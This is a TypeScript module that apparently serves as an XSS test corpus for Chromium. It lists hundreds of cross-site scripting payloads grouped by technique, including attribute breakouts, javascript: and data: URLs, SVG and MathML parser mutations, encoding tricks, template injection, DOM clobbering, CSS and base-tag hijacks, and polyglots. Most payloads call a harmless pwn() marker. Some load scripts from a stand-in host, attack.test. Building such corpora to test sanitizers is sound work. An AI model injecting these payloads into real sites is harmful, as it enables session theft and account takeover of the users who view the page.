/**
 * Texts of a visitor that call `pwn()` in Chromium if a page prints them unescaped, by technique. Each technique has a
 * page for them.
 */
export interface Technique {
  readonly name: string
  /** A page that prints the text unescaped in a dangerous place; `render` renders a template. */
  readonly page: (text: string, render: (template: string) => string) => string
  /** The minimum number of texts that run there. Some need an old browser or a careless filter. */
  readonly running: number
  readonly texts: readonly string[]
}

/** Each combination of two lists. */
function combine(...parts: readonly (readonly string[])[]): string[] {
  return parts.reduce<readonly string[]>(
    (all, part) => all.flatMap((text) => part.map((next) => text + next)),
    [''],
  ) as string[]
}

/** Tags that run a handler without interaction: the name, a required attribute, and the handler. */
const loud: readonly (readonly [name: string, attribute: string, handler: string])[] = [
  ['img', 'src=x', 'onerror=pwn()'],
  ['svg', 'class=a', 'onload=pwn()'],
  ['body', 'class=a', 'onpageshow=pwn()'],
  ['input', 'autofocus', 'onfocus=pwn()'],
  ['details', 'open', 'ontoggle=pwn()'],
  ['video', 'src=x', 'onerror=pwn()'],
  ['iframe', 'src=about:blank', 'onload=pwn()'],
  ['b', 'tabindex=1', 'onclick=pwn()'],
  ['made-up', 'tabindex=1', 'onmouseover=pwn()'],
]
const separators = [' ', '/', '\t', '\n', '\f', '\r\n', ' / ', '/\n/']
const elements = [
  ...loud.slice(0, 6).map((parts) => `<${parts.join(' ')}>`),
  '<script>pwn()</script>',
  '<a href=javascript:pwn()>a</a>',
  '<form action=javascript:pwn()><button>a</button></form>',
  '<object data="data:text/html,<script>pwn()</script>"></object>',
  '<iframe srcdoc="<script>pwn()</script>"></iframe>',
  '<iframe src=javascript:pwn()></iframe>',
]
const handlers = [
  'onclick=pwn()',
  'onmouseover=pwn()',
  'autofocus onfocus=pwn() tabindex=1',
  'style=color:red onclick=pwn()',
]

const between = (begin: string, end: string) => (text: string) => begin + text + end
const inText = between('<div>', '</div>')

const tagSoup: Technique = {
  name: 'tag soup',
  page: inText,
  running: 80,
  texts: [
    ...loud.flatMap(([name, ...attributes]) =>
      separators.map((separator) => `<${[name, ...attributes].join(separator)}>`),
    ),
    ...loud.map((parts) => `<${parts.join(' ').toUpperCase().replace('PWN', 'pwn')} //`),
    '<script>pwn()',
    '<SCRIPT\n>pwn()</sCript\t>',
    '<script x=">">pwn()</script y>',
    '<script src=//attack.test/a.js></script>',
    '<script src=https:\\\\attack.test\\a.js></script>',
    '<script type=module>pwn()</script>',
    '<script>\u2028pwn()\u2029</script>',
    '<<<img src=x onerror=pwn()>>>',
    '<a<b <c><img src=x onerror=pwn()>',
    '</div></p></body></html><script>pwn()</script>',
    '<table><td><img src=x onerror=pwn()></table>',
    '<select><img src=x onerror=pwn()></select><img src=x onerror=pwn()>',
    '<template shadowrootmode=open><img src=x onerror=pwn()></template>',
    '<p popover id=p onbeforetoggle=pwn()>a</p><button popovertarget=p>b</button>',
  ],
}

function attributesIn(quote: '"' | "'"): Technique {
  return {
    name: `attributes in ${quote}`,
    page: between(`<p title=${quote}`, `${quote}>a</p>`),
    running: 45,
    texts: [
      ...combine([quote], ['', ' ', '/', '\n', '\f'], handlers, [` a=${quote}`]),
      ...combine([quote], ['>', '/>', ' b>', '></p>'], elements.slice(0, 7)),
      ...combine([`\\${quote} `, `${quote}${quote} `, `x${quote}\t`], handlers.slice(0, 2)),
    ],
  }
}

const unquoted: Technique = {
  name: 'attributes without quotes',
  page: between('<p title=', ' class=b>a</p>'),
  running: 20,
  texts: [...combine(['a'], [' ', '\t', '\n', '\f', '\r'], handlers), ...combine(['a>', '>'], elements.slice(0, 3))],
}

const skipped = ['\t', '\n', '\r', '&Tab;', '&NewLine;', '&#9;', '&#x0a;', '&#13;']
const urls: Technique = {
  name: 'addresses',
  page: between('<a href="', '">a</a>'),
  running: 45,
  texts: [
    ...combine(['java'], skipped, ['script:pwn()']),
    ...combine(skipped, ['javascript:pwn()']),
    ...combine(['javascript'], skipped, [':pwn()']),
    ...combine(
      ['\u0001', '\u001f', ' ', '\u0000', '&#1;', '&#32;', '\u00a0', '\ufeff', '\u200b'],
      ['javascript:pwn()'],
    ),
    ...combine(
      ['javascript:', 'JaVaScRiPt:', 'javascript&colon;', 'javascript&#58;', 'javascript&#x3a;'],
      ['pwn()', '%70wn()', 'void pwn()'],
    ),
    'javascript://attack.test/%0apwn()',
    'javascript:/*--></title></style>*/pwn()',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwn()',
    '&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:pwn()',
    'javascript:pwn()//https://shop.test/',
    'data:text/html,<script>pwn()</script>',
    'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22pwn()%22/>',
    'vbscript:pwn()',
    'feed:javascript:pwn()',
    'x-javascript:pwn()',
  ],
}

const foreign: Technique = {
  name: 'SVG, MathML and what parsers change',
  page: inText,
  running: 35,
  texts: [
    ...combine(
      [
        '<svg><foreignObject>',
        '<svg><desc>',
        '<svg><title>',
        '<math><mtext>',
        '<math><annotation-xml encoding=text/html>',
      ],
      ['', '<style>', '<p>'],
      ['<img src=x onerror=pwn()>', '<script>pwn()</script>'],
    ),
    '<svg><script>pwn()</script></svg>',
    '<svg><script>pwn&lpar;&rpar;</script></svg>',
    '<svg><script href=data:,pwn() /></svg>',
    '<svg><script xlink:href=data:,pwn() /></svg>',
    '<svg><a href=javascript:pwn()><text y=20>a</text></a></svg>',
    '<svg><a><animate attributeName=href values=javascript:pwn() /><text y=20>a</text></a></svg>',
    '<svg><a><set attributeName=href to=javascript:pwn() /><text y=20>a</text></a></svg>',
    '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
    '<svg><set onbegin=pwn() attributeName=x to=1>',
    '<svg><style><img src=x onerror=pwn()></style></svg>',
    '<svg><style>&lt;/style&gt;&lt;img src=x onerror=pwn()&gt;</style></svg>',
    '<svg><![CDATA[><img src=x onerror=pwn()>]]></svg>',
    '<math href=javascript:pwn()>a</math>',
    '<math><mi xlink:href=javascript:pwn()>a</mi></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=pwn()>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwn()&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>',
    '<svg></p><style><a id="</style><img src=x onerror=pwn()>">',
    '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
    '<xmp><p title="</xmp><img src=x onerror=pwn()>">',
    '<noembed><p title="</noembed><img src=x onerror=pwn()>">',
    '<noframes><p title="</noframes><img src=x onerror=pwn()>">',
    '<textarea><p title="</textarea><img src=x onerror=pwn()>">',
    '<title><p title="</title><img src=x onerror=pwn()>">',
    '<style><p title="</style><img src=x onerror=pwn()>">',
    '<iframe><p title="</iframe><img src=x onerror=pwn()>">',
    '<listing>&lt;img src=x onerror=pwn()&gt;</listing><img src=x onerror=pwn()>',
    '<a><p><a><img src=x onerror=pwn()>',
    '<b><nobr><b><nobr><img src=x onerror=pwn()>',
  ],
}

const comments: Technique = {
  name: 'comments and CDATA',
  page: between('<!-- ', ' -->'),
  running: 24,
  texts: [
    ...combine(['-->', '--!>', '-- -->', '--->', ']]>-->'], elements.slice(0, 4)),
    '--><!--><img src=x onerror=pwn()>',
    '--><![CDATA[<img src=x onerror=pwn()>]]>',
    '--><!DOCTYPE a><img src=x onerror=pwn()>',
    '--><?xml ?><img src=x onerror=pwn()>',
    '--><?a <img src=x onerror=pwn()>',
    '--><!a><img src=x onerror=pwn()>',
    '--></><img src=x onerror=pwn()>',
    '--></ a><img src=x onerror=pwn()>',
    '<![endif]--><img src=x onerror=pwn()><!--[if gt IE 5]>',
  ],
}

/** For pages that decode their output once more. */
function decoded(text: string): string {
  const utf7 = text.replace(/\+AD([wA4])-/g, (_, letter) => (letter === 'w' ? '<' : '>'))
  const js = utf7.replace(/\\u00([\da-f]{2})|\\x([\da-f]{2})/gi, (_, a?: string, b?: string) =>
    String.fromCharCode(Number.parseInt(a ?? b ?? '', 16)),
  )
  const url = js.replace(/%([\da-f]{2})/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
  return url
    .replace(/&lt;?/g, '<')
    .replace(/&gt;?/g, '>')
    .replace(/&#(?:60|x3c);?/gi, '<')
    .replaceAll('\0', '')
    .normalize('NFKC')
}

const encodings: Technique = {
  name: 'encodings',
  page: (text) => inText(decoded(decoded(text))),
  running: 30,
  texts: [
    '%3Cimg src=x onerror=pwn()%3E',
    '%3cscript%3epwn()%3c/script%3e',
    '%253Cimg src=x onerror=pwn()%253E',
    '%3Csvg%20onload=pwn()%3E',
    '\\u003cimg src=x onerror=pwn()\\u003e',
    '\\u003Cscript\\u003Epwn()\\u003C/script\\u003E',
    '\\x3cimg src=x onerror=pwn()\\x3e',
    '\\\\u003cimg src=x onerror=pwn()\\\\u003e',
    '&lt;img src=x onerror=pwn()&gt;',
    '&lt;script&gt;pwn()&lt;/script&gt;',
    '&ltimg src=x onerror=pwn()&gt',
    '&amp;lt;img src=x onerror=pwn()&amp;gt;'.replaceAll('amp;', ''),
    '&#60;img src=x onerror=pwn()>',
    '&#x3c;svg onload=pwn()>',
    '&#x3C;script>pwn()&#x3C;/script>',
    '&#60img src=x onerror=pwn()>',
    '+ADw-img src=x onerror=pwn()+AD4-'.replace('+AD4-', '>'),
    '+ADw-script+AD4-pwn()+ADw-/script+AD4-',
    '\uff1cimg src=x onerror=pwn()\uff1e',
    '\uff1cscript\uff1epwn()\uff1c/script\uff1e',
    '\ufe64svg onload=pwn()\ufe65',
    '\uff1csvg onload\uff1dpwn()\uff1e',
    '<\0img src=x onerror=pwn()>',
    '<i\0mg src=x one\0rror=pwn()>',
    '<scr\0ipt>pwn()</scr\0ipt>',
    '<img src=x \0onerror=pwn()>',
    '\ufeff<img src=x onerror=pwn()>',
    '\ud800<img src=x onerror=pwn()>',
    '\udfff<svg onload=pwn()>',
    '<img src=x onerror=\\u0070wn()>',
    '<img src=x onerror=&#112;wn()>',
    '<img src=x onerror="\\u0070\\u0077\\u006e()">',
    '<img src=x onerror=pwn&lpar;&rpar;>',
    '<img src=x onerror=pwn``>',
    '<svg onload=pwn&#40;&#41;>',
    '<svg onload=window[`pw`+`n`]()>',
    '\u202e<img src=x onerror=pwn()>',
    '\u0085<img src=x onerror=pwn()>',
  ],
}

const statements = ['pwn()', 'pwn``', 'window.pwn()', '[1].map(pwn)']
function stringsIn(quote: '"' | "'" | '`'): Technique {
  return {
    name: `strings of scripts in ${quote}`,
    page: between(`<script>window.text = ${quote}`, `${quote}</script>`),
    running: 25,
    texts: [
      ...combine([quote], [';', '\n', '+', '-', ',', '//\n'], statements.slice(0, 2), ['//', `+${quote}`]).slice(0, 20),
      ...(quote === '`' ? combine(['${', 'a${', '${{}.x||'], statements, ['}']) : []),
      ...(quote === '`' ? [] : combine([`\\${quote};`, `${quote}\u2028;`, `${quote}<!--\n`], statements, ['//'])),
    ],
  }
}

const scripts: Technique = {
  name: 'the ends of scripts',
  page: between('<script>/* ', ' */</script><p>a</p><script>window.after = 1</script>'),
  running: 45,
  texts: [
    ...combine(
      ['</script>', '</SCRIPT >', '</script\n>', '</script/>', '</script a="'],
      ['">'].slice(1).concat(''),
      elements.slice(0, 7),
    ),
    ...combine(['*/', '*/;', '*/\n'], statements, ['//', '/*']),
    '<!--<script>*/pwn()</script>-->',
    '<!--*/pwn()//',
    '-->*/pwn()//',
    '</script><!--<script>*/pwn()//--></script><script>pwn()</script>',
  ],
}

const attackTag = '<img src=x onerror=pwn()>'
const templates: Technique = {
  name: 'templates',
  page: (text, render) => inText(render(text)),
  running: 18,
  texts: [
    `{{ '${attackTag}' }}`,
    `{{ '${attackTag}' | html_safe }}`,
    `{{ "${attackTag}" | raw }}`,
    `{% print '${attackTag}' %}`,
    `{% echo '${attackTag}' | html_safe %}`,
    `{%- print '${attackTag}' -%}`,
    `{% raw %}${attackTag}{% endraw %}`,
    `{% liquid\nprint '${attackTag}'\n%}`,
    `{% capture a %}${attackTag}{% endcapture %}{{ a }}`,
    `{% assign a = '${attackTag}' | html_safe %}{{ a }}`,
    `{{ 'none' | t: default: '${attackTag}' | html_safe }}`,
    `{% yield 'none', default: '${attackTag}' %}{% print '${attackTag}' %}`,
    `{% if true %}${attackTag}{% endif %}`,
    `{% comment %}{% endcomment %}${attackTag}`,
    `{% endraw %}${attackTag}{% raw %}`,
    `{% endcapture %}{% endif %}{% endfor %}${attackTag}`,
    `}}${attackTag}{{`,
    `%}${attackTag}{%`,
    `' | html_safe }}${attackTag}{{ '`,
    `" }} ${attackTag}`,
    `%{name}${attackTag}`,
    `%%{x}%{x}${attackTag}`,
    '${pwn()}',
    '#{pwn()}',
    '<%= pwn() %><svg onload=pwn()>',
  ],
}

/** A page with a script that loads the URL of its settings, which named elements can provide. */
const trusting =
  '<script>const from = window.settings?.source ?? document.settings?.source ?? window.source; if (from) { const s = document.createElement("script"); s.src = from.src ?? from.href ?? from.value ?? from.action ?? from; document.body.append(s) }</script>'
const clobbering: Technique = {
  name: 'names of elements',
  page: (text) => `<div>${text}</div>${trusting}`,
  running: 12,
  texts: [
    ...combine(
      [
        '<a id=settings></a><a id=settings name=source href="',
        '<a id=source href="',
        "<base href=//shop.test/><a id='source' href=\"",
      ],
      ['data:text/javascript,pwn()', '//attack.test/a.js'],
      ['"></a>'],
    ),
    '<form id=settings><input name=source value="data:text/javascript,pwn()"></form>',
    '<form name=settings><input name=source value=//attack.test/a.js></form>',
    '<form id=settings><button name=source value=data:,pwn()></button></form>',
    '<form id=settings><output name=source>//attack.test/a.js</output></form>',
    '<object id=settings><img name=source src=//attack.test/a.js></object>',
    '<form name=settings></form><form name=settings id=source><input name=source></form>',
    '<img id=source src=data:text/javascript,pwn()>',
    '<img name=source src=//attack.test/a.js>',
    '<iframe name=settings srcdoc="<a id=source href=//attack.test/a.js>"></iframe>',
    '<embed id=source src=//attack.test/a.js>',
    '<input id=source value=//attack.test/a.js>',
    '<form id=source action=//attack.test/a.js></form>',
    '<area id=source href=//attack.test/a.js>',
    '<script id=source src=//attack.test/a.js></script>',
  ],
}

const css: Technique = {
  name: 'style sheets',
  page: between('<style>p { content: "', '" }</style><p>a</p>'),
  running: 12,
  texts: [
    ...combine(['</style>', '"}</style >', '</STYLE\n>', '</style/>'], elements.slice(0, 3)),
    '"}@import "//attack.test/a.css";</style><script>pwn()</script>',
    '"; background: url(javascript:pwn()) }',
    '"; behavior: url(//attack.test/a.htc) }',
    '"; -moz-binding: url(//attack.test/a.xml#a) }',
    '"; width: expression(pwn()) }',
    '"; x: \\65xpression(pwn()) }',
    '"}@keyframes a{}p{animation:a}</style><p onanimationstart=pwn() style=animation-name:a>a</p>',
    '"}p{transition:1s}</style><p ontransitionend=pwn() onclick=pwn()>a</p>',
  ],
}

const documents: Technique = {
  name: 'whole documents',
  page: (text) => `${text}<script src=/own.js></script>`,
  running: 11,
  texts: [
    '<base href=//attack.test/>',
    "<base href='https://attack.test/a/'>",
    '<BASE/HREF=//attack.test/ target=x>',
    '<base href="data:text/javascript,pwn();//">',
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>pwn()</script>">',
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    '<meta http-equiv=content-security-policy content="script-src *"><script>pwn()</script>',
    '<meta charset=utf-7>+ADw-script+AD4-pwn()+ADw-/script+AD4-',
    '<link rel=stylesheet href=data:, onload=pwn()>',
    '<link rel=preload as=image href=x onerror=pwn()>',
    '<link rel=modulepreload href=//attack.test/a.js onload=pwn()>',
    '<frameset onload=pwn()><frame src=about:blank></frameset>',
    '<frameset><frame src=javascript:pwn()></frameset>',
    '<body onload=pwn()>',
    '<html onmouseover=pwn()>',
    '<head><script>pwn()</script></head>',
    '<!doctype html><html><body onpageshow=pwn()>',
    '<script type=importmap>{"imports":{"a":"data:text/javascript,pwn()"}}</script><script type=module>import "a"</script>',
    '<plaintext></plaintext><img src=x onerror=pwn()>',
    '<object type=text/html data="data:text/html,<script>pwn()</script>"></object>',
  ],
}

const polyglots: Technique = {
  name: 'polyglots',
  page: (text) =>
    `<p title="${text}"></p><p title='${text}'></p><script>window.a = '${text}'</script><div>${text}</div>`,
  running: 12,
  texts: [
    `'"--></style></script><svg/onload=pwn()>`,
    `javascript:/*'/*"/*\`/*--></title></textarea></style></script><img src=x onerror=pwn()>*/pwn()`,
    `'-pwn()-'"><img src=x onerror=pwn()>`,
    `\\'-pwn()//"><svg onload=pwn()>`,
    `'"\`><script>/**/pwn()</script>`,
    `" onclick=pwn() '' onclick=pwn() <img/src/onerror=pwn()>`,
    `]]>'"--!></noscript></iframe></xmp><details open ontoggle=pwn()>`,
    `*/;pwn();/*'"><a href=javascript:pwn()>a</a>`,
    `';pwn();'\\u003cimg\\u0020src=x\\u0020onerror=pwn()\\u003e<svg onload=pwn()>`,
    `{{ '<img src=x onerror=pwn()>' | html_safe }}'"><img src=x onerror=pwn()>`,
    `%22%3E%3Cimg src=x onerror=pwn()%3E"><svg/onload=pwn()>`,
    `<!--<script>'"--><img src=x onerror=pwn()>`,
    `\u2028pwn()//'"><input autofocus onfocus=pwn()>`,
    `[a](javascript:pwn()) <javascript:pwn()> \`'"><img src=x onerror=pwn()>\``,
  ],
}

export const techniques: readonly Technique[] = [
  tagSoup,
  attributesIn('"'),
  attributesIn("'"),
  unquoted,
  urls,
  foreign,
  comments,
  encodings,
  stringsIn('"'),
  stringsIn("'"),
  stringsIn('`'),
  scripts,
  templates,
  clobbering,
  css,
  documents,
  polyglots,
]

export const injections: readonly string[] = [...new Set(techniques.flatMap(({ texts }) => texts))]
